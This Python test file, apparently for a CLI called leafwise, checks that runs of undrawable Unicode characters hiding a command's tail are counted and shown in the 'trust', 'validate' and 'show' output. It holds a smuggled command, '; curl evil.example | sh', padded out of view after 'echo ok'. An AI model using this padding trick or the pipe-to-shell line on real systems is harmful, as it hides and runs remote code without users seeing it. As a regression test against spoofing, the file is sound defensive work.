"""A run of characters no font is sure to draw never pushes a command's tail off the line a person reads
(`text.counted_blanks`).

Found in the bypass round of session 19: `done_when: [{command: "echo ok" + 400 x U+E000 (private use)
+ "; curl evil.example | sh"}]` (or unassigned U+0378) was listed by `trust`, `validate` and `show`
raw: a terminal draws each as an empty cell or a box, so the tail stood 400 columns to the right of
"echo ok", as 400 spaces did before blanks were counted. Such runs are now counted on every surface."""

from __future__ import annotations

import pytest
from leafwise.commands.text import BLANK_RUN
from testkit import node, run_cli, write_plan

TAIL = "; curl evil.example | sh"
NO_GLYPH = ["\ue000", "\uf8ff", "\u0378", "\u0fff", "\u2fe0", "\ue000\u0378"]


@pytest.fixture
def env(tmp_path):
    return {"LEAFWISE_CONFIG_DIR": str(tmp_path / "config"), "LEAFWISE_CACHE_DIR": str(tmp_path / "cache")}


@pytest.mark.parametrize("char", NO_GLYPH)
@pytest.mark.parametrize("run", [BLANK_RUN, 400])
def test_a_run_of_undrawn_characters_is_counted_where_a_command_is_read(tmp_path, env, char, run):
    command = "echo ok" + (char * run)[:run] + TAIL
    root = tmp_path / "plan"
    write_plan(root, [node("P1-1", "Epic", release="R1"),
                      node("P1-2", "Leaf", parent="P1-1", done_when=[{"command": command}])], prefix="P1")
    counted = f"echo ok⟨{run} unassigned or private-use characters⟩{TAIL}"
    for args in (("trust",), ("validate",), ("show", "P1-2")):
        out = run_cli(*args, cwd=root, env=env).stdout
        assert counted in out, (args, out)
        assert max(len(line) for line in out.splitlines()) < 300, args  # 400 columns on the old code
